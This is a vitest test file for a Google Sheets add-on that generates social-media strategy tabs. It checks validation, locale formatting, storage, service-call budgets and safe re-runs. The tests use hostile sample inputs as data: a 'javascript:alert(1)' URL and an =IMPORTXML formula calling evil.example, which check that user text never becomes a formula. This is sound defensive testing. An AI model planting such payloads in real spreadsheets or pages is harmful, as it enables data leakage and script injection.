// generateTabs, examplePlan and loadPlan as the sidebar calls them: the built dist/Code.js in
// node:vm against the emulator. Three tabs from a good plan, nothing at all from a bad one, the
// plan kept and read back, a bounded number of service calls whatever the plan's length, re-runs
// that never touch earlier tabs, and user text that never becomes a formula.
import { beforeAll, describe, expect, it } from 'vitest';
import { LANGUAGES } from '../../src/i18n/lang';
import { readFileSync } from 'node:fs';
import { planLabels, planMessages, strategyMessages } from '../../src/i18n/messages';
import { examplePlan as localExample } from '../../src/plan/example';
import type { Plan } from '../../src/plan/schema';
import { isRemote } from '../emulator/calls';
import { snapshot } from '../emulator/snapshot';
import { loadAddOn, type AddOn } from '../support/bundle';

type Tabs = { tabs: { kind: string; name: string; rows: number; sheetId: number }[] };
type Problems = { problems: { field: string; message: string }[] };

const NOW = '2026-01-05T09:00:00Z';

function fresh(locale = 'en_US', timeZone = 'America/New_York'): AddOn {
  return loadAddOn({ locale, timeZone, now: NOW });
}

function generate(addOn: AddOn, plan: unknown): Tabs & Problems {
  return addOn.serverCall('generateTabs', plan) as Tabs & Problems;
}

function tabsOf(addOn: AddOn, plan: unknown): Tabs['tabs'] {
  const result = generate(addOn, plan);
  if (!('tabs' in result)) throw new Error(`expected tabs, got ${JSON.stringify(result)}`);
  return result.tabs;
}

function example(addOn: AddOn, language: string): Record<string, any> {
  return addOn.serverCall('examplePlan', language) as Record<string, any>;
}

/** A plan of `months` months with six networks posting five times a week (the call-count case). */
function bigPlan(months: number): Record<string, any> {
  const plan = JSON.parse(JSON.stringify(localExample('en', '2026-01-05')));
  plan.contentPlan.months = months;
  plan.contentPlan.networks = ['instagram', 'facebook', 'x', 'linkedin', 'tiktok', 'youtube'].map((network) => ({
    network,
    postsPerWeek: 5,
    times: ['10:00'],
  }));
  return plan;
}

describe('generateTabs in the bundle', () => {
  it.each([
    ['en_US', 'mm/dd/yyyy'],
    ['en_GB', 'dd/mm/yyyy'],
    ['de_DE', 'dd.mm.yyyy'],
    ['fa_IR', 'yyyy/mm/dd'],
  ])('writes dates the way a %s spreadsheet reads them', (locale, pattern) => {
    const addOn = fresh(locale);
    const plan = example(addOn, 'en'); // an American shop's plan, whatever the spreadsheet
    expect(plan.market).toBe('US');
    const calendar = tabsOf(addOn, plan).find((t) => t.kind === 'calendar')!;
    const sheet = addOn.emulator.spreadsheet.getSheets().find((s) => s.getSheetId() === calendar.sheetId)!;
    const dates = sheet.getRange(3, 1, 5, 1).getNumberFormats().flat();
    expect(dates).toEqual(Array(5).fill(pattern));
    expect(sheet.getRange(3, 1).getValue()).toBeInstanceOf(Object); // a real date, not text
  });

  it('writes the strategy, audit, calendar and KPI tabs of the example, tagged, and says where they are', () => {
    const addOn = fresh();
    const before = addOn.emulator.spreadsheet.getSheets().length;
    const tabs = tabsOf(addOn, example(addOn, 'en'));
    expect(tabs.map((t) => t.kind)).toEqual(['strategy', 'audit', 'calendar', 'kpi', 'dashboard']);
    const sheets = addOn.emulator.spreadsheet.getSheets();
    expect(sheets).toHaveLength(before + 5);
    // The Strategy tab is the first of ours, the others follow in the order they carry the plan out.
    const order = tabs.map((tab) => sheets.findIndex((s) => s.getSheetId() === tab.sheetId));
    expect(order).toEqual([...order].sort((a, b) => a - b));
    for (const tab of tabs) {
      const sheet = sheets.find((s) => s.getSheetId() === tab.sheetId)!;
      expect(sheet.getName()).toBe(tab.name);
      expect(tab.rows).toBeGreaterThan(0);
      expect(sheet.getLastRow()).toBeGreaterThan(1);
      expect(sheet.getDeveloperMetadata().map((m) => [m.getKey(), m.getValue()])).toContainEqual(['socialStrategy.tab', tab.kind]);
    }
    // 3 months, 4 + 3 + 2 posts a week: about 13 weeks × 9 posts on the calendar, plus a post per
    // network on the campaigns' weekend days.
    const calendar = tabs.find((t) => t.kind === 'calendar')!;
    expect(calendar.rows).toBeGreaterThanOrEqual(100);
    expect(calendar.rows).toBeLessThanOrEqual(145);
  });

  it.each(LANGUAGES)('the %s example generates, right-to-left unless English', (lang) => {
    const addOn = fresh(`${lang}_XX`, 'Asia/Tehran');
    const tabs = tabsOf(addOn, example(addOn, lang));
    const shot = snapshot(addOn.emulator.spreadsheet);
    for (const tab of tabs) expect(shot.sheets.find((s) => s.sheetId === tab.sheetId)!.rightToLeft).toBe(lang !== 'en');
  });

  it('writes NOTHING for a bad plan: no tab, no property, and names every problem in the plan’s language', () => {
    const addOn = fresh();
    const bad = example(addOn, 'ar');
    bad.goals[0].deadline = '2026-02-30';
    bad.accounts[0].url = 'javascript:alert(1)';
    bad.contentPlan.networks[1].weekdays = [];
    const before = snapshot(addOn.emulator.spreadsheet);
    addOn.emulator.resetCalls();
    const result = generate(addOn, bad);
    expect(result.problems.map((p) => p.field).sort()).toEqual(['accounts.0.url', 'contentPlan.networks.1.weekdays', 'goals.0.deadline']);
    expect(result.problems.find((p) => p.field === 'contentPlan.networks.1.weekdays')!.message).toBe(planMessages.ar.noDays);
    expect(snapshot(addOn.emulator.spreadsheet)).toEqual(before);
    expect(addOn.emulator.properties.document.data.size).toBe(0);
    const writes = Object.keys(addOn.emulator.calls.byMethod).filter((k) => /insert|set|add|delete|Properties\.set/i.test(k));
    expect(writes).toEqual([]);
  });

  it('waits for another run that is writing, and says so instead of writing alongside it', () => {
    const addOn = fresh('he_IL', 'Asia/Jerusalem');
    const plan = example(addOn, 'he');
    addOn.emulator.locks.holdByOther('document');
    const sheetsBefore = addOn.emulator.spreadsheet.getSheets().length;
    expect(generate(addOn, plan)).toEqual({ problems: [{ field: '', message: planMessages.he.busy }] });
    expect(addOn.emulator.spreadsheet.getSheets()).toHaveLength(sheetsBefore);
    expect(addOn.emulator.properties.document.data.size).toBe(0);

    addOn.emulator.locks.releaseAll(); // the other run is done: trying again writes
    expect(tabsOf(addOn, plan)).toHaveLength(5);
  });

  it('tells problems in the spreadsheet’s language when the plan names none we speak', () => {
    const addOn = fresh('fa_IR', 'Asia/Tehran');
    const result = generate(addOn, { language: 'xx' });
    expect(result.problems.length).toBeGreaterThan(3);
    expect(result.problems.find((p) => p.field === 'businessName')!.message).toBe(planMessages.fa.required);
    expect(generate(addOn, 'not a plan').problems).toEqual([{ field: '', message: planMessages.fa.notAPlan }]);
  });

  it('keeps the plan with the document and gives it back, with the spreadsheet’s time zone', () => {
    const addOn = fresh('en_US', 'Europe/London');
    expect(addOn.serverCall('loadPlan')).toBeNull();
    const sent = example(addOn, 'he');
    tabsOf(addOn, sent);
    const loaded = addOn.serverCall('loadPlan') as Plan;
    expect(loaded).toMatchObject({ businessName: sent.businessName, language: 'he', market: 'IL', timeZone: 'Europe/London', currency: 'ILS' });
    expect(loaded.goals.map((g) => g.text)).toEqual(sent.goals.map((g: { text: string }) => g.text));
    // Loading again is as good as the plan itself: it generates the same tabs.
    expect(tabsOf(addOn, loaded).map((t) => t.kind)).toEqual(['strategy', 'audit', 'calendar', 'kpi', 'dashboard']);
  });

  it('keeps a long plan in pieces under 9 KB each, and a shorter one later leaves no stale piece', () => {
    const addOn = fresh();
    const long = example(addOn, 'fa');
    long.accounts = Array.from({ length: 30 }, (_, i) => ({ ...long.accounts[0], handle: `@account${i}`, mission: 'ن'.repeat(450), audience: 'م'.repeat(450) }));
    tabsOf(addOn, long);
    const store = addOn.emulator.properties.document.data;
    const pieces = [...store.keys()].filter((k) => k.startsWith('socialStrategy.plan.'));
    expect(pieces.length).toBeGreaterThan(3);
    for (const key of pieces) expect(Buffer.byteLength(store.get(key)!, 'utf8')).toBeLessThanOrEqual(9 * 1024);
    expect((addOn.serverCall('loadPlan') as Plan).accounts).toHaveLength(30);

    tabsOf(addOn, example(addOn, 'fa'));
    const after = [...store.keys()].filter((k) => k.startsWith('socialStrategy.plan.'));
    expect(after.length).toBeLessThan(pieces.length);
    expect((addOn.serverCall('loadPlan') as Plan).accounts).toHaveLength(3);
  });

  it('gives an example in the spreadsheet’s language when asked for one we do not speak, starting next month', () => {
    const addOn = fresh('ar_SA', 'Asia/Riyadh');
    const plan = example(addOn, 'de');
    expect(plan.language).toBe('ar');
    expect(plan.contentPlan.startDate).toBe('2026-02-01');
  });
});

/** Remote calls from the dashboard's insertSheet (the last tab written) to the plan's save, and its tag (written with the others after the save). */
function dashboardCalls(sequence: string[]): number {
  const start = sequence.lastIndexOf('Spreadsheet.insertSheet');
  const end = sequence.findIndex((key, i) => i > start && key.startsWith('Properties'));
  return sequence.slice(start, end).filter((key) => {
    const [service, method] = key.split('.');
    return isRemote(service, method);
  }).length + 1;
}

describe('service calls', () => {
  let counts: Record<number, { total: number; remote: number; sequence: string[] }>;

  beforeAll(() => {
    counts = {};
    for (const months of [3, 12, 36]) {
      const addOn = fresh();
      addOn.emulator.resetCalls();
      const tabs = tabsOf(addOn, bigPlan(months));
      expect(tabs).toHaveLength(5);
      const { total, remote, sequence } = addOn.emulator.calls;
      counts[months] = { total, remote, sequence: [...sequence] };
    }
  });

  // Service calls are the ones that leave the script (the emulator's `remote`); builders such as
  // newDataValidation()…build() are local objects in Apps Script and show only in `total`.
  it('a 12-month plan with 6 networks at 5 posts a week costs at most 95 service calls in all (60 for audit, calendar and KPI, 15 for the strategy, 20 for the dashboard)', () => {
    expect(counts[12].remote, counts[12].sequence.join('\n')).toBeLessThanOrEqual(95);
  });

  it('the dashboard adds at most 20 service calls, charts included, whatever the plan length', () => {
    const added = [3, 12, 36].map((months) => dashboardCalls(counts[months].sequence));
    for (const n of added) expect(n).toBeLessThanOrEqual(20);
    expect(new Set(added).size).toBe(1);
    console.log(`dashboard service calls: ${added.join(', ')} (3, 12, 36 months)`);
  });

  it('a 3-month and a 36-month plan cost the same, give or take 5', () => {
    for (const months of [3, 36]) {
      expect(Math.abs(counts[months].remote - counts[12].remote)).toBeLessThanOrEqual(5);
      expect(Math.abs(counts[months].total - counts[12].total)).toBeLessThanOrEqual(5);
    }
    console.log(`service calls (total/remote): 3 months ${counts[3].total}/${counts[3].remote}, 12 months ${counts[12].total}/${counts[12].remote}, 36 months ${counts[36].total}/${counts[36].remote}`);
  });
});

describe('re-running', () => {
  it('keeps the first tabs and the user’s edits, and writes new tabs under distinct names', () => {
    const addOn = fresh();
    const plan = example(addOn, 'en');
    const first = tabsOf(addOn, plan);
    const calendar = addOn.emulator.spreadsheet.getSheets().find((s) => s.getSheetId() === first.find((t) => t.kind === 'calendar')!.sheetId)!;
    calendar.getRange('H3').setValue('My own caption');
    const rulesBefore = calendar.getConditionalFormatRules().length;
    const before = snapshot(addOn.emulator.spreadsheet).sheets.filter((s) => first.some((t) => t.sheetId === s.sheetId));

    const second = tabsOf(addOn, plan);
    const names = [...first, ...second].map((t) => t.name);
    expect(new Set(names).size).toBe(10);
    expect(second.map((t) => t.kind)).toEqual(['strategy', 'audit', 'calendar', 'kpi', 'dashboard']);
    const after = snapshot(addOn.emulator.spreadsheet).sheets.filter((s) => first.some((t) => t.sheetId === s.sheetId));
    expect(after).toEqual(before);
    expect(calendar.getRange('H3').getValue()).toBe('My own caption');
    expect(calendar.getConditionalFormatRules()).toHaveLength(rulesBefore);
  });
});

describe('user text stays text', () => {
  it('a goal, handle, mission or campaign starting with = + - @ is never a formula in the written tabs', () => {
    const addOn = fresh();
    const plan = example(addOn, 'en');
    const hostile = ['=IMPORTXML("http://evil.example","//a")', '+1 for bread', '-50% sale', '@cornercrumb', '=1+1'];
    plan.goals[0].text = hostile[0];
    plan.goals[1].text = hostile[1];
    plan.accounts[0].handle = hostile[3];
    plan.accounts[1].mission = hostile[0];
    plan.accounts[2].handle = hostile[4];
    plan.competitors[0].handle = hostile[2];
    plan.competitors[0].notes = hostile[4];
    plan.impostors[0].handle = '=HYPERLINK("x")';
    plan.campaigns[0].name = hostile[2];
    plan.campaigns[1].name = hostile[4];
    plan.businessName = '=2*3';
    const tabs = tabsOf(addOn, plan);
    const shot = snapshot(addOn.emulator.spreadsheet);
    const written = shot.sheets.filter((s) => tabs.some((t) => t.sheetId === s.sheetId));
    const cells = written.flatMap((s) => s.cells.flat().filter(Boolean));
    expect(cells.filter((c) => c!.accidentalFormula)).toEqual([]);
    for (const text of [...hostile, '=HYPERLINK("x")']) {
      const showing = cells.filter((c) => c!.display === text);
      expect(showing.length, text).toBeGreaterThan(0);
      for (const c of showing) expect(c!.formula, text).toBeUndefined();
    }
    // No formula the add-on wrote quotes the user's text as code.
    for (const c of cells) if (c!.formula) expect(c!.formula).not.toMatch(/IMPORTXML|HYPERLINK\("x"\)|^=1\+1$|^=2\*3$/);
  });
});

describe('plans and drafts saved before the situation, budget and team existed', () => {
  const saved = JSON.parse(readFileSync(new URL('../plan/fixtures/plan-before-situation.json', import.meta.url), 'utf8')) as Record<string, Record<string, unknown>>;

  it('an old Hebrew plan still generates all four tabs, the Strategy tab right to left with its gaps shown as “—”', () => {
    const addOn = fresh('iw_IL', 'Asia/Jerusalem');
    const tabs = tabsOf(addOn, saved.he);
    expect(tabs.map((t) => t.kind)).toEqual(['strategy', 'audit', 'calendar', 'kpi', 'dashboard']);
    const sheet = addOn.emulator.spreadsheet.getSheets().find((s) => s.getSheetId() === tabs[0].sheetId)!;
    expect(sheet.isRightToLeft()).toBe(true);
    const values = sheet.getDataRange().getDisplayValues().flat();
    expect(values).toContain(strategyMessages.he.none);
    expect(values).toContain(planLabels.he.swot.strengths);
  });

  it('an old draft (no situation, budget or team) opens, and its plan generates', () => {
    const addOn = fresh();
    const draft = { version: 1, step: 4, furthest: 5, remindersOn: false, answers: saved.en };
    addOn.serverCall('saveWizard', draft);
    const loaded = addOn.serverCall('loadWizard') as { draft: { answers: Record<string, unknown> } };
    expect(loaded.draft.answers.situation).toBeUndefined();
    expect(tabsOf(addOn, loaded.draft.answers)).toHaveLength(5);
  });
});
